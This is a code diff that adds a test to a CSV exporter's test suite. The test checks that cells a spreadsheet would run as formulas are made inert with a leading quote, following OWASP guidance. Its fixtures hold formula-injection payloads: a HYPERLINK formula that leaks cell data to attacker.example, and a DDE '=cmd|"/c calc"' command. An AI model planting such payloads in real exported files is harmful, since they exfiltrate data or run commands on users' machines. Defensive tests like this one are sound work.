@@ -54,6 +54,24 @@ describe('claims.csv', () => {
     for (const [index, [, expected]] of quantities.entries()) expect(read[index]).toMatchObject(expected);
   });
 
+  it('makes a text cell that a spreadsheet would run as a formula inert with a leading quote (OWASP), and leaves numbers as they are', () => {
+    const [first] = graph.claims;
+    const formulas = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Open")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\rcmd'];
+    const claims = formulas.map((text, index) => ({
+      ...first!,
+      id: `fx${index}abc`,
+      text,
+      statement: text,
+      quantity: { min: -5, max: null, minExclusive: false, maxExclusive: false, about: null, unit: 'people', counted: text },
+    }));
+    const sources = graph.sources.map((source) => (source.id === first!.attribution[0] ? { ...source, name: '=cmd|"/c calc"!A1' } : source));
+    const read: Record<string, string>[] = parse(claimsCsv({ ...graph, claims, sources }), { columns: true });
+    for (const [index, text] of formulas.entries()) {
+      expect(read[index]).toMatchObject({ text: `'${text}`, statement: `'${text}`, quantity_counted: `'${text}`, quantity_min: '-5' });
+      expect(read[index]!.attribution).toMatch(/^'=cmd\|"\/c calc"!A1/);
+    }
+  });
+
   it('gives each claim its current verdict and the day of it, and nothing for an unrated claim', () => {
     const fixture: Record<string, string>[] = parse(claimsCsv(loadCorpusOrThrow('tests/fixtures/minimal-corpus')), { columns: true });
     expect(fixture[0]).toMatchObject({ id: 'tw22ab', verdict: 'true', verdict_date: '2026-11-20' });
